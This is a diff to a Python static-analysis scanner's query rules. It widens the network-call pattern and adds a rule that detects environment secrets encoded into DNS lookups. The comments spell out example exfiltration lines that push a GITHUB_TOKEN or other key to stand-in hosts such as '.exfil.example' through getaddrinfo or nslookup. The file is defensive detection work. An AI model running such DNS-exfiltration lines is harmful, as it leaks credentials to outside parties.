@@ -40,7 +40,7 @@
 ; storage clients, boto3's client and resource, Google Cloud Storage and
 ; Azure Blob Storage, whose uploads land in a bucket elsewhere)
 ((call function: (_) @fn) @finding
- (#resolves-to? @fn "socket\\.(socket|create_connection|create_server|socketpair|fromfd|gethostbyname|gethostbyname_ex|getaddrinfo)|urllib\\.request\\.(urlopen|urlretrieve|Request)|urllib3\\..*|http\\.client\\.HTTPS?Connection|requests\\.(get|post|put|patch|delete|head|request|Session)|httpx\\..*|aiohttp\\..*|asyncio\\.open_(connection|unix_connection)|(ftplib|smtplib|telnetlib|poplib|imaplib|xmlrpc\\.client)\\..*|paramiko\\..*|urllib\\.request\\.(build_opener|OpenerDirector)|logging\\.handlers\\.(HTTPHandler|SocketHandler|DatagramHandler|SMTPHandler|SysLogHandler)|multiprocessing\\.connection\\.Client|http\\.server\\.(HTTPServer|ThreadingHTTPServer)|_socket\\.(socket|socketpair|fromfd)|ssl\\.(create_connection|wrap_socket|SSLSocket)|asyncio\\.(get_running_loop|get_event_loop|new_event_loop)\\(\\)\\.(create_connection|create_datagram_endpoint|create_unix_connection|sock_connect|create_server)|webbrowser\\.(open|open_new|open_new_tab)|multiprocessing\\.managers\\.(BaseManager|SyncManager)|socketserver\\.(TCPServer|ThreadingTCPServer|UDPServer|ThreadingUDPServer|ForkingTCPServer)|xmlrpc\\.server\\..*|asyncio\\.start_server|wsgiref\\.simple_server\\.make_server|urllib\\.robotparser\\.RobotFileParser|urllib\\.request\\.(FancyURLopener|URLopener)|ssl\\.get_server_certificate|xml\\.sax\\.parse|xml\\.dom\\.(minidom|pulldom)\\.parse|nntplib\\..*|paho\\.mqtt\\..*|websocket\\.(create_connection|WebSocket|WebSocketApp)|websockets\\..*|zmq\\..*|pika\\..*|kafka\\.(KafkaProducer|KafkaConsumer)|nats\\..*|pycurl\\..*|(redis|valkey|aioredis|pymemcache|memcache|pymongo|motor|elasticsearch|opensearchpy|cassandra|grpc|kombu|stomp|pymysql|MySQLdb)\\..*|psycopg2?\\.connect|mysql\\.connector\\.connect|(sentry_sdk|raven|rollbar|bugsnag|honeybadger|posthog|mixpanel|slack_sdk|twilio|telegram|discord_webhook|hvac|statsd|datadog|influxdb_client)\\..*|boto3\\.(client|resource)|boto3\\.session\\.Session|google\\.cloud\\.storage\\..*|azure\\.storage\\.blob\\..*")
+ (#resolves-to? @fn "socket\\.(socket|create_connection|create_server|socketpair|fromfd|gethostbyname|gethostbyname_ex|getaddrinfo)|urllib\\.request\\.(urlopen|urlretrieve|Request)|urllib3\\..*|http\\.client\\.HTTPS?Connection|requests\\.(get|post|put|patch|delete|head|request|Session)|httpx\\..*|aiohttp\\..*|asyncio\\.open_(connection|unix_connection)|(ftplib|smtplib|telnetlib|poplib|imaplib|xmlrpc\\.client)\\..*|paramiko\\..*|urllib\\.request\\.(build_opener|OpenerDirector)|logging\\.handlers\\.(HTTPHandler|SocketHandler|DatagramHandler|SMTPHandler|SysLogHandler)|multiprocessing\\.connection\\.Client|http\\.server\\.(HTTPServer|ThreadingHTTPServer)|_socket\\.(socket|socketpair|fromfd)|ssl\\.(create_connection|wrap_socket|SSLSocket)|asyncio\\.(get_running_loop|get_event_loop|new_event_loop)\\(\\)\\.(create_connection|create_datagram_endpoint|create_unix_connection|sock_connect|create_server|getaddrinfo|getnameinfo)|webbrowser\\.(open|open_new|open_new_tab)|multiprocessing\\.managers\\.(BaseManager|SyncManager)|socketserver\\.(TCPServer|ThreadingTCPServer|UDPServer|ThreadingUDPServer|ForkingTCPServer)|xmlrpc\\.server\\..*|asyncio\\.start_server|wsgiref\\.simple_server\\.make_server|urllib\\.robotparser\\.RobotFileParser|urllib\\.request\\.(FancyURLopener|URLopener)|ssl\\.get_server_certificate|xml\\.sax\\.parse|xml\\.dom\\.(minidom|pulldom)\\.parse|nntplib\\..*|paho\\.mqtt\\..*|websocket\\.(create_connection|WebSocket|WebSocketApp)|websockets\\..*|zmq\\..*|pika\\..*|kafka\\.(KafkaProducer|KafkaConsumer)|nats\\..*|pycurl\\..*|(redis|valkey|aioredis|pymemcache|memcache|pymongo|motor|elasticsearch|opensearchpy|cassandra|grpc|kombu|stomp|pymysql|MySQLdb)\\..*|psycopg2?\\.connect|mysql\\.connector\\.connect|(sentry_sdk|raven|rollbar|bugsnag|honeybadger|posthog|mixpanel|slack_sdk|twilio|telegram|discord_webhook|hvac|statsd|datadog|influxdb_client)\\..*|boto3\\.(client|resource)|boto3\\.session\\.Session|google\\.cloud\\.storage\\..*|azure\\.storage\\.blob\\..*")
  (#set! id "py-network")
  (#set! severity "warn")
  (#set! message "opens a network connection"))
@@ -525,6 +525,20 @@
  (#set! id "py-dns-exfil")
  (#set! severity "high")
  (#set! message "puts a value of the environment into a host name it looks up: a secret sent out through DNS"))
+
+; token = os.environ["GITHUB_TOKEN"]; label = token.encode().hex();
+; socket.getaddrinfo(f"{label}.x.example", 443): a variable of the
+; environment named like a secret (TOKEN, SECRET, PASSWORD, API_KEY, ...)
+; reaches the name looked up through names it was given, also through the
+; event loop's getaddrinfo (a host read whole from the environment,
+; DB_HOST, is not this)
+((call function: (_) @fn arguments: (argument_list . (_) @host)) @finding
+ (#resolves-to? @fn "socket\\.(gethostbyname|gethostbyname_ex|getaddrinfo|getnameinfo|getfqdn)|dns\\.resolver\\.(resolve|query|Resolver\\.(resolve|query))|asyncio\\.(get_running_loop|get_event_loop|new_event_loop)\\(\\)\\.(getaddrinfo|getnameinfo)")
+ (#not-match? @host "environ|getenv")
+ (#bound-text-match? @host "(environ|getenv)\\b[^\\n]{0,40}?[\"'][A-Z0-9_]*(TOKEN|SECRET|PASSW|API_?KEY|PRIVATE|CREDENTIAL|ACCESS_KEY)[A-Z0-9_]*[\"']")
+ (#set! id "py-dns-exfil")
+ (#set! severity "high")
+ (#set! message "puts a secret of the environment into a host name it looks up: a secret sent out through DNS"))
 
 ; subprocess.run(["nslookup", os.environ["KEY"] + ".exfil.example"]): the
 ; same through a program that looks a name up (nslookup, dig, host, ping)
